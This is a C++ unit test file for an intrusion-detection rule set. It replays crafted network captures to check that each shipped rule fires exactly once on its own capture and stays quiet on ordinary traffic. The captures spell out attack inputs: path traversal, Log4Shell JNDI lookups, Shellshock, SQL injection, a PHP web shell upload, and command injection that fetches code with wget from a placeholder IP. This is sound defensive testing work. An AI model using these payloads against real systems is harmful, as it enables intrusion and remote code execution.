// Every shipped rule fires on the capture made for it, once, and no other shipped rule does.
#include <gtest/gtest.h>

#include "core/os.h"
#include "ids/engine/testing/replay.h"

namespace gatehouse::ids::testing {
namespace {

std::string shipped_rules() {
  const auto text = core::read_file(GATEHOUSE_SOURCE_DIR "/rules/ids/gatehouse.rules");
  return text ? *text : std::string();
}

// From outside to a server of the default HOME_NET.
TcpConversation to_server(std::uint16_t port) {
  TcpConversation::Endpoints endpoints;
  endpoints.client = "203.0.113.7";
  endpoints.server = "10.0.0.10";
  endpoints.server_port = port;
  TcpConversation conversation(endpoints);
  conversation.handshake();
  return conversation;
}

std::vector<Frame> http(const std::string& request, const std::string& body = {},
                        const std::string& response_body = "ok") {
  TcpConversation c = to_server(80);
  std::string head = request + "\r\nHost: shop.example\r\n";
  if (!body.empty()) head += "Content-Length: " + std::to_string(body.size()) + "\r\n";
  c.client_sends(head + "\r\n" + body);
  c.server_sends("HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: " +
                 std::to_string(response_body.size()) + "\r\n\r\n" + response_body);
  return c.close().frames();
}

std::vector<Frame> server_says(std::uint16_t port, std::string_view text) {
  return to_server(port).server_sends(text).client_sends("x\r\n").close().frames();
}
std::vector<Frame> client_says(std::uint16_t port, std::string_view text) {
  return to_server(port)
      .server_sends("220 ready\r\n")
      .client_sends(text)
      .server_sends("250 ok\r\n")
      .close()
      .frames();
}

std::vector<Frame> dns_query(const std::string& label, int labels) {
  std::string message("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  for (int i = 0; i < labels; ++i) message += static_cast<char>(label.size()) + label;
  message += std::string("\x00\x00\x10\x00\x01", 5);
  IpFields ip;
  ip.source = "10.0.0.53";
  ip.destination = "203.0.113.53";
  ip.protocol = 17;
  return {{ethernet_ip(ipv4(ip, udp(40053, 53, from_text(message)))), 1'700'000'000'000'000}};
}

std::string program(std::string_view magic, std::size_t filler, std::string_view text) {
  std::string out(magic);
  out.append(filler, '\x01');
  out.append(text);
  return out;
}

struct Row {
  int sid;
  std::vector<Frame> frames;
};

std::vector<Row> rows() {
  const std::string get = "GET /index.html HTTP/1.1";
  return {
      {9000001, http("GET /cgi-bin/view?file=../../../../etc/passwd HTTP/1.1")},
      {9000002, http(get + "\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}")},
      {9000003, http("GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1")},
      {9000004, http(get + "\r\nReferer: () { :; }; echo hello")},
      {9000005, http("GET /item?id=1%20UNION%20ALL%20SELECT%20name HTTP/1.1")},
      {9000006, http("POST /upload HTTP/1.1", "<?php system($_GET['c']); ?>")},
      {9000007, http("GET /ping?host=127.0.0.1;wget%20http://203.0.113.9/x HTTP/1.1")},
      {9000020, http(get, {}, program("MZ", 76, "This program cannot be run in DOS mode"))},
      {9000021, http(get, {},
                     program("\x7f"
                             "ELF\x02\x01\x01",
                             60, ""))},
      {9000040, http(get + "\r\nAuthorization: Basic dXNlcjpwYXNz")},
      {9000041, http("POST /login HTTP/1.1", "user=ada&password=analytical")},
      {9000042, client_says(25, "AUTH PLAIN AGFkYQBhbmFseXRpY2Fs\r\n")},
      {9000043, server_says(23, "router login: ")},
      {9000060, server_says(22, "SSH-1.5-OldServer\r\n")},
      {9000061, client_says(25, "Content-Disposition: attachment;\r\n filename=\"invoice.exe\"\r\n")},
      {9000062, dns_query(std::string(40, 'a'), 4)},
  };
}

TEST(ShippedRules, AllLoad) {
  const Replay result = replay({}, shipped_rules());
  EXPECT_EQ(result.rules_failed, 0u) << result.diagnostics.render_all();
  EXPECT_FALSE(result.diagnostics.has_errors()) << result.diagnostics.render_all();
}

TEST(ShippedRules, EachFiresOnItsCaptureOnceAndAlone) {
  const std::string rules = shipped_rules();
  ASSERT_FALSE(rules.empty());
  for (const Row& row : rows()) {
    EXPECT_EQ(replay(row.frames, rules).sids(), std::vector<int>{row.sid});
  }
}

TEST(ShippedRules, EveryRuleHasACapture) {
  const core::SourceText source("gatehouse.rules", shipped_rules());
  core::Diagnostics diagnostics;
  engine::SettingsInput input;
  const auto settings = engine::load_settings(input, diagnostics);
  ASSERT_TRUE(settings);
  const RuleList list = check_rules(std::span(&source, 1), settings->environment, diagnostics);
  std::vector<int> proved;
  for (const Row& row : rows()) proved.push_back(row.sid);
  for (const auto& rule : list.rules) {
    EXPECT_NE(std::find(proved.begin(), proved.end(), static_cast<int>(rule->meta.sid)), proved.end())
        << rule->meta.sid;
  }
  EXPECT_EQ(list.rules.size(), proved.size());
}

TEST(ShippedRules, OrdinaryTrafficIsQuiet) {
  EXPECT_TRUE(
      replay(http("GET /union/committee?select=members HTTP/1.1\r\nUser-Agent: test"), shipped_rules())
          .sids()
          .empty());
  EXPECT_TRUE(replay(server_says(22, "SSH-2.0-OpenSSH_9.2\r\n"), shipped_rules()).sids().empty());
  EXPECT_TRUE(replay(dns_query("www", 3), shipped_rules()).sids().empty());
}

}  // namespace
}  // namespace gatehouse::ids::testing
